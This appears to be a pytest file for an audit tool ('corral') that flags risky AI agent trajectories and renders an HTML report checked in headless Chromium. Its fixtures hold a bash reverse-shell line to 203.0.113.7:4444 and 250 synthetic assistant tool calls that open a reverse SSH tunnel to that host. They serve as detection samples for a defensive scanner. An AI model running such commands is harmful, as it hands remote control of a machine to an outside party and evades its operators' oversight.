"""The HTML report rendered by a real browser (headless Chromium): it loads offline and lays out."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

FIXTURES = Path(__file__).parent / "fixtures"


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = pytest.mark.skipif(
    CHROMIUM is None, reason="chromium not installed (apt-get install chromium)"
)


def _chromium(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
             "--disable-component-update", "--disable-sync", "--no-first-run",
             f"--user-data-dir={tmp_path / 'profile'}"]  # fmt: skip
    return subprocess.run([CHROMIUM, *flags, *args], capture_output=True, text=True, timeout=60)


def test_report_renders_in_chromium(cli, tmp_path: Path) -> None:
    report = tmp_path / "report.html"
    assert cli(str(FIXTURES), "--report", str(report)).exit_code == 0
    shot = tmp_path / "shot.png"
    _chromium(tmp_path, f"--screenshot={shot}", "--window-size=1200,1600", report.as_uri())
    png = shot.read_bytes()
    assert png[:8] == b"\x89PNG\r\n\x1a\n" and len(png) > 20_000  # a page, not a blank
    dom = _chromium(tmp_path, "--dump-dom", report.as_uri()).stdout
    assert "corral audit report" in dom
    assert "bash -i &gt;&amp; /dev/tcp/203.0.113.7/4444 0&gt;&amp;1" in dom
    assert dom.count('class="traj"') == 10


def test_every_flagged_trajectory_is_listed_in_pages(cli, tmp_path: Path) -> None:
    import json

    lines = []
    for i in range(250):
        args = json.dumps({"command": f"ssh -fNR {2000 + i}:localhost:22 u@203.0.113.7"})
        lines.append(json.dumps({"id": f"t{i}", "messages": [
            {"role": "user", "content": "go"},
            {"role": "assistant", "content": None, "tool_calls": [
                {"id": "c", "type": "function", "function": {"name": "bash", "arguments": args}}]},
        ]}))  # fmt: skip
    corpus = tmp_path / "many.jsonl"
    corpus.write_text("\n".join(lines) + "\n")
    report = tmp_path / "report.html"
    assert cli(str(corpus), "--report", str(report)).exit_code == 0
    dom = _chromium(tmp_path, "--dump-dom", report.as_uri()).stdout
    assert "All flagged trajectories (250)" in dom
    assert [dom.count(f'<tbody class="page p{n}">') for n in range(4)] == [1, 1, 1, 0]
    assert '<label for="pg2">3</label>' in dom and "<script" not in dom
    assert all(f">t{i}<" in dom for i in (0, 99, 100, 249))
    assert dom.count('class="traj"') == 50  # the worst ones with context, as before
